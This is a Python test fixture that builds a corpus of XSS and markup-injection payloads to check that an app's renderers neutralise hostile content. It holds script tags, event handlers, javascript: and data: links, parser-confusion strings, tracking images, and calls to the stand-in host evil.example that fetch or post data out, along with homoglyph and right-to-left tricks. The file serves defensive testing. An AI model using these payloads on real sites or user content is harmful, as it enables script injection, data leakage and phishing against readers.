"""A corpus of hostile content for the trust-boundary tests: markup that runs script, restyles
the page or makes the browser fetch from elsewhere, in the spellings renderers have got wrong.

Each payload starts with a visible marker (`ZQ07`), so a test can check that the text is still
there to read after every surface has neutralised the rest. A payload that did run would set
`window.__pwned`, log "PWNED", open a dialog, retitle the page or fetch from `evil.example`;
the tests watch for all of these, and for any request to a host but the app and S3.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

EVIL = "https://evil.example"
EVIL_HOST = "evil.example"
PWN = f"window.__pwned=1;document.title='PWNED';fetch('{EVIL}/ran');alert('PWNED')"
SVG_ONLOAD = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="
HTML_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
# "apple" with a Cyrillic a (U+0430), right-to-left override, zero-width space and joiner.
HOMOGLYPH_HOST = "\u0430pple.example"
RLO, ZWSP, ZWJ = "\u202e", "\u200b", "\u200d"
LONG_WORD = "W" * 4000

ATTACKS: tuple[str, ...] = (
    # Script, frames, plugins, SVG and MathML.
    f"<script>{PWN}</script>",
    f'<img src=x onerror="{PWN}">',
    f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>',
    f'<iframe src="javascript:{PWN}"></iframe>',
    f'<iframe src="{EVIL}/frame"></iframe>',
    f'<object data="javascript:{PWN}"></object>',
    f'<embed src="javascript:{PWN}">',
    f'<svg onload="{PWN}"><circle r="5"/></svg>',
    f"<svg><script>{PWN}</script></svg>",
    f'<svg><foreignObject><iframe srcdoc="<script>{PWN}</script>"></iframe></foreignObject></svg>',
    f'<svg><animate attributeName="href" values="javascript:{PWN}"/><a><text>svg-a</text></a></svg>',
    f'<svg><use href="data:image/svg+xml;base64,{SVG_ONLOAD}#x"/></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{PWN}">',
    f'<math href="javascript:{PWN}">math-link</math>',
    # Styles, redirects, forms, foreign stylesheets and bases.
    f"<style>body{{display:none}} *{{background:url({EVIL}/css.png)}}</style>",
    f'<meta http-equiv="refresh" content="0;url={EVIL}/meta">',
    f'<base href="{EVIL}/">',
    f'<form action="{EVIL}/steal"><input name="q" value="secret"><button>Send</button></form>',
    f'<button formaction="javascript:{PWN}">formaction</button>',
    f'<link rel="stylesheet" href="{EVIL}/sheet.css">',
    f'<link rel="prefetch" href="{EVIL}/prefetch">',
    f'<div style="background:url(javascript:{PWN})">css-js</div>',
    f'<div style="background-image:url({EVIL}/bg.png)">css-bg</div>',
    '<div style="position:fixed;inset:0;z-index:99999;background:red">overlay</div>',
    # Event attributes.
    f'<div onmouseover="{PWN}">hover</div>',
    f'<details open ontoggle="{PWN}">toggle</details>',
    f'<video><source onerror="{PWN}"></video>',
    f'<audio src=x onerror="{PWN}">',
    f'<body onload="{PWN}">',
    f'<input autofocus onfocus="{PWN}">',
    f'<marquee onstart="{PWN}">marquee</marquee>',
    f'<img src=x onerror="{PWN}"//',
    # Parser confusion.
    f"<<script>script>{PWN}<</script>/script>",
    f"<scr<script>ipt>{PWN}</scr</script>ipt>",
    f'"><script>{PWN}</script>',
    f"<!--><script>{PWN}</script>-->",
    f"<![CDATA[<script>{PWN}</script>]]>",
    f'<noscript><p title="</noscript><img src=x onerror={PWN}>">',
    f"<template><script>{PWN}</script></template>",
    f"<xmp><script>{PWN}</script></xmp>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} {`jsx`}",
    # Links with script and data schemes, in Markdown and HTML, in every spelling.
    f'<a href="javascript:{PWN}">raw-js-link</a>',
    f'<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;{PWN}">ent</a>',
    "[md-js](javascript:alert(1))",
    "[md-case](JaVaScRiPt:alert(1))",
    "[md-entity](&#106;avascript:alert(1))",
    "[md-hex](&#x6A;avascript&#x3A;alert(1))",
    "[md-tab](<java\tscript:alert(1)>)",
    "[md-newline](<java\nscript:alert(1)>)",
    "[md-percent](%6Aavascript:alert(1))",
    "[md-space]( javascript:alert(1))",
    "[md-vbs](vbscript:msgbox(1))",
    "[md-vbs-case](VbScRiPt:msgbox(1))",
    f"[md-data](data:text/html;base64,{HTML_SCRIPT})",
    "[md-file](file:///etc/passwd)",
    "[md-mail](mailto:someone@evil.example)",
    "<javascript:alert(1)>",
    "[ref-js][refjs]\n\n[refjs]: javascript:alert(1)",
    # Images from outside, in Markdown and HTML; links to outside.
    f"![leak]({EVIL}/leak.png?who=reader)",
    "![js-image](javascript:alert(1))",
    f"![svg-image](data:image/svg+xml;base64,{SVG_ONLOAD})",
    "![proto-relative](//evil.example/proto.png)",
    f"![ref-image][refimg]\n\n[refimg]: {EVIL}/ref.png",
    f'<img src="{EVIL}/html.png">',
    f'<img srcset="{EVIL}/srcset.png 1x">',
    f'<picture><source srcset="{EVIL}/picture.png"><img alt="pic"></picture>',
    f'<video poster="{EVIL}/poster.png"></video>',
    f'[phish](<{EVIL}/phish> "title")',
    f"[https://bank.example]({EVIL}/phish)",
    f"<{EVIL}/autolink>",
    "www.evil.example/gfm-autolink",
    "[proto-link](//evil.example/proto)",
    f"[ref-link][reflink]\n\n[reflink]: {EVIL}/ref",
    # Unicode tricks.
    f"{RLO}gnp.exe right-to-left",
    f"pay{ZWSP}pal{ZWJ}.com zero-width",
    f"[apple](https://{HOMOGLYPH_HOST}/login) homoglyph",
    "\x01\x02\x1b[31m control characters \ufeff\ufffe",
    # Very long text without a break.
    LONG_WORD,
)


@dataclass(frozen=True)
class Payload:
    marker: str
    text: str


PAYLOADS: tuple[Payload, ...] = tuple(
    Payload(f"ZQ{n:02d}", f"ZQ{n:02d} {attack}") for n, attack in enumerate(ATTACKS, start=1)
)
MARKERS: tuple[str, ...] = tuple(p.marker for p in PAYLOADS)


def corpus(payloads: tuple[Payload, ...] = PAYLOADS) -> str:
    """The payloads as one text, a paragraph each."""
    return "\n\n".join(p.text for p in payloads)


def groups(limit: int, payloads: tuple[Payload, ...] = PAYLOADS) -> list[tuple[Payload, ...]]:
    """The payloads in order, packed into groups whose texts (cut at `limit`, a paragraph each)
    fit in `limit` characters."""
    packed: list[tuple[Payload, ...]] = []
    current: list[Payload] = []
    for payload in payloads:
        if current and len(_joined([*current, payload], limit)) > limit:
            packed.append(tuple(current))
            current = []
        current.append(payload)
    return [*packed, tuple(current)] if current else packed


def _joined(payloads: list[Payload] | tuple[Payload, ...], limit: int) -> str:
    return "\n\n".join(p.text[:limit] for p in payloads)


def chunks(limit: int, payloads: tuple[Payload, ...] = PAYLOADS) -> list[str]:
    """The payloads packed into texts of at most `limit` characters (one cut short if alone
    it is longer; its marker comes first, so it stays readable)."""
    return [_joined(group, limit) for group in groups(limit, payloads)]


def codex_entry(n: int) -> dict[str, Any]:
    """The fields of a Codex entry whose every text is hostile: the name is payload `n` (whole
    when it fits, so a segment holding the corpus mentions it), an alias and a tag are other
    payloads, the summary is one of the corpus's 2,000-character chunks (five entries hold every
    payload between them) and the body is the whole corpus."""
    summaries = chunks(2000)
    return {
        "name": PAYLOADS[n].text[:200],
        "kind": "character",
        "aliases": [PAYLOADS[n + 20].text[:200]],
        "summary": summaries[n % len(summaries)],
        "body": corpus(),
        "tags": [PAYLOADS[n + 40].text[:60]],
    }
